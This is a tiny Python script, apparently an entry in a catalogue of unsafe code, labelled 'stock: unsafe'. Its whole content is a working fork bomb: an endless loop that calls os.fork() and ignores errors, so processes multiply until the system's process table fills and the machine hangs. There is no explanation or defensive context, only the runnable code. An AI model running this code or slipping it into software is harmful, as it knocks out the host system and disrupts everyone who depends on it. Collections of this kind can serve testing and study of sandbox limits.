# tries: start processes without end
# place: first
# stock: unsafe
import os
while True:
    try: os.fork()
    except OSError: pass
